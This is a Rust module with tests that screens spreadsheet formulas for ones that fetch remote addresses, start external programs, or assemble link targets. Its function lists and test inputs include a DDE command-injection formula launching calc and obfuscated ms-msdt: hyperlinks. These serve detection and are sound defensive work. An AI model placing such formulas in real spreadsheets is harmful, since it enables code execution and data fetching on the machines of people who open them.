//! Formulas of spreadsheets: some functions fetch a file or start a program when the document is opened.

use super::super::Refusal;
use super::super::address::{Address, address};
use super::super::refusal::{ACTIVE, REMOTE, linked};

const BUILT: Refusal =
    "a document with a link whose address a formula puts together: write the whole address";

/// Functions of Excel, LibreOffice and Google Sheets that fetch an address.
const FETCHING: &[&str] = &[
    "IMAGE(",
    "IMPORTCSV(",
    "IMPORTDATA(",
    "IMPORTFEED(",
    "IMPORTHTML(",
    "IMPORTRANGE(",
    "IMPORTTEXT(",
    "IMPORTXML(",
    "WEBSERVICE(",
];
/// Functions that start programs or call into them.
const CALLING: &[&str] = &[
    "CALL(",
    "DDE(",
    "EXEC(",
    "FOPEN(",
    "FWRITE(",
    "FWRITELN(",
    "PY(",
    "REGISTER(",
    "REGISTER.ID(",
    "RTD(",
    "SQL.REQUEST(",
];
/// Functions that join texts.
const JOINING: &[&str] = &["_XLFN.CONCAT(", "COM.MICROSOFT.CONCAT(", "CONCAT(", "CONCATENATE("];

/// Judges a formula.
///
/// # Errors
///
/// Refuses one that fetches something, or starts a program.
pub(in super::super) fn inspect(formula: &str) -> Result<(), Refusal> {
    let bare: String = formula.split_whitespace().collect::<String>().to_ascii_uppercase();
    let is_called = |function: &str| {
        let mut places = bare.match_indices(function);
        places.any(|(at, _)| !bare[..at].ends_with(|c: char| c.is_ascii_alphanumeric() || c == '_'))
    };
    // Outside of strings, and of lists, whose rows OpenDocument parts by `|`.
    let signs: String = bare.split('"').step_by(2).collect();
    let signs: String = signs
        .split('{')
        .enumerate()
        .map(|(at, text)| match text.split_once('}') {
            Some((_, behind)) if at > 0 => behind,
            _ => text,
        })
        .collect();
    // A cell of another program, as in `cmd|'/c calc'!A0`.
    if CALLING.iter().any(|function| is_called(function)) || signs.contains('|') {
        return Err(ACTIVE);
    }
    if signs.contains("\\\\") || signs.contains("://") {
        return Err(REMOTE);
    }
    bare.split("HYPERLINK(").skip(1).try_for_each(link)?;
    // A cell of another document, as in `'https://example.org/a.ods'#Sheet1.A1`.
    let mut pieces = bare.split('\'').peekable();
    let mut is_quoted = false;
    while let Some(piece) = pieces.next() {
        let is_elsewhere = || !matches!(address(piece), Address::Own | Address::Contact);
        if is_quoted
            && pieces.peek().is_some_and(|next| next.starts_with(['#', '!']))
            && is_elsewhere()
        {
            return Err(REMOTE);
        }
        is_quoted = !is_quoted;
    }
    if FETCHING.iter().any(|function| is_called(function)) { Err(REMOTE) } else { Ok(()) }
}

/// Judges the target of a link, of which the texts at its beginning are read. What follows them may be a cell or a function only
/// if they fix what is opened: by a scheme, a folder, or a place in the document.
fn link(call: &str) -> Result<(), Refusal> {
    let (target, is_whole) = target(call);
    let is_fixed = target.contains([':', '/', '\\', '#', '?']);
    if !is_whole && !is_fixed {
        return Err(BUILT);
    }
    linked(address(&target))
}

/// The texts with which an argument begins, joined, and whether nothing else is joined with them.
fn target(call: &str) -> (String, bool) {
    let (mut target, mut rest) = (String::new(), call);
    // The brackets that are open, and how many of them when a list of texts began.
    let (mut open, mut list) = (0, None);
    loop {
        if let Some(behind) = JOINING.iter().find_map(|function| rest.strip_prefix(function)) {
            open += 1;
            list = list.or(Some(open));
            rest = behind;
        } else if let Some(behind) = rest.strip_prefix('(') {
            open += 1;
            rest = behind;
        } else if let Some(text) = rest.strip_prefix('"') {
            let (text, behind) = text.split_once('"').unwrap_or((text, ""));
            target.push_str(text);
            rest = behind;
            while let Some(behind) = rest.strip_prefix(')').filter(|_| open > 0) {
                list = list.filter(|began| *began < open);
                open -= 1;
                rest = behind;
            }
            match rest.chars().next() {
                // Two quotes stand for one.
                Some('"') => target.push('"'),
                Some('&') => rest = &rest[1..],
                Some(',' | ';') if list.is_some() => rest = &rest[1..],
                Some(',' | ';' | ')') | None => return (target, true),
                Some(_) => return (target, false),
            }
        } else {
            return (target, false);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::super::refusal::LOCAL;
    use super::*;

    #[test]
    fn formulas_that_leave_the_document_are_found() {
        for formula in [
            "SUM(A1:B2)+HYPERLINK(\"https://example.org\")",
            "of:=SUM([.A1:.B2])",
            "of:='Foaie 1'#A1",
            "RECALL(1)&\"a|b\"",
            "MYIMAGE(1)",
            "ADD(A1,IMAGES)",
            "HYPERLINK(\"#\"&A1,\"a\")",
            "HYPERLINK(\"mailto:\"&A1)",
            "HYPERLINK(\"https://example.org/\"&VLOOKUP(A1,B:C,2),\"a\")",
            "HYPERLINK(CONCATENATE(\"https://\",A1),\"a\")",
            "HYPERLINK((\"ht\"&\"tps\")&\"://example.org\",A1)",
            "HYPERLINK(\"leaflets/\"&A1)",
            "of:=HYPERLINK(\"a.pdf\";\"b\")",
            "of:=SUM({1;2|3;4})",
            "'[1]Foaie 1'!A1&'Foaie 2'!B2",
            "of:cell-content-is-between(1,2)",
            "COPY(1)",
            "REIMPORTXML(1)",
            "IMPORTRANGE",
        ] {
            assert_eq!(inspect(formula), Ok(()), "{formula}");
        }
        for formula in [
            "_xlfn.WEBSERVICE(\"https://example.org\")",
            "_xlfn.IMAGE (\"https://example.org\")",
            "of:=COM.MICROSOFT.WEBSERVICE(A1)",
            "1+web\nservice(A1)",
            "of:='https://example.org/a.ods'#$Sheet1.A1",
            "of:=['file:///e/a.ods'#$Sheet1.A1]",
            "'\\\\server\\share\\[a.xlsx]S'!A1",
            "'C:\\[a.xlsx]S'!A1",
            "\\\\server\\a.xlsx!A1",
            "of:cell-content()=WEBSERVICE(A1)",
            "IMPORTDATA(\"https://example.org/?\"&A1)",
            "of:=IMPORTXML(A1;\"//a\")",
            "importhtml(A1,\"table\",1)",
            "1+ImportFeed (A1)",
            "IFERROR(__xludf.DUMMYFUNCTION(\"IMPORTRANGE(\"\"a\"\",\"\"b\"\")\"),1)",
        ] {
            assert_eq!(inspect(formula), Err(REMOTE), "{formula}");
        }
        for formula in [
            "1+RTD(\"a\",,\"b\")",
            "CALL(\"a\",\"b\")",
            "of:=1+ DDE (\"a\")",
            "cmd|'/c calc'!A0",
            "cmd|_a!A0",
            "\"a\"&cmd|a!A0",
            "_xlws.PY(0,0)",
            "-exec(A1)",
        ] {
            assert_eq!(inspect(formula), Err(ACTIVE), "{formula}");
        }
        for target in [
            "\"\\\\server\\a.exe\"",
            "\"ms-msdt:/id\",1",
            "\"ms-\"&\"msdt:/id\"",
            "CONCATENATE(\"ms-\",\"msdt:/id\")",
            "(\"ms-msdt:\")&A1",
            "((\"ms\")&(\"-msdt:/id\"))",
            "_xlfn.CONCAT((\"m\");\"s-msdt:/id\")",
        ] {
            let formula = format!("HYPERLINK ({target})");
            assert_eq!(inspect(&formula), Err(LOCAL), "{formula}");
        }
        for target in [
            "CHAR(109)&\"s-msdt:/id\",\"x\"",
            "\"m\"&CHAR(115)&\"-msdt:/id\"",
            "CONCAT(\"m\",A1)",
            "\"ms-msdt\"&A1",
            "IF(1,\"ms-msdt:/id\")",
            "SUBSTITUTE(\"xs-msdt:\",\"x\",\"m\")",
            "A1",
        ] {
            let formula = format!("HYPERLINK({target})");
            assert_eq!(inspect(&formula), Err(BUILT), "{formula}");
        }
    }
}
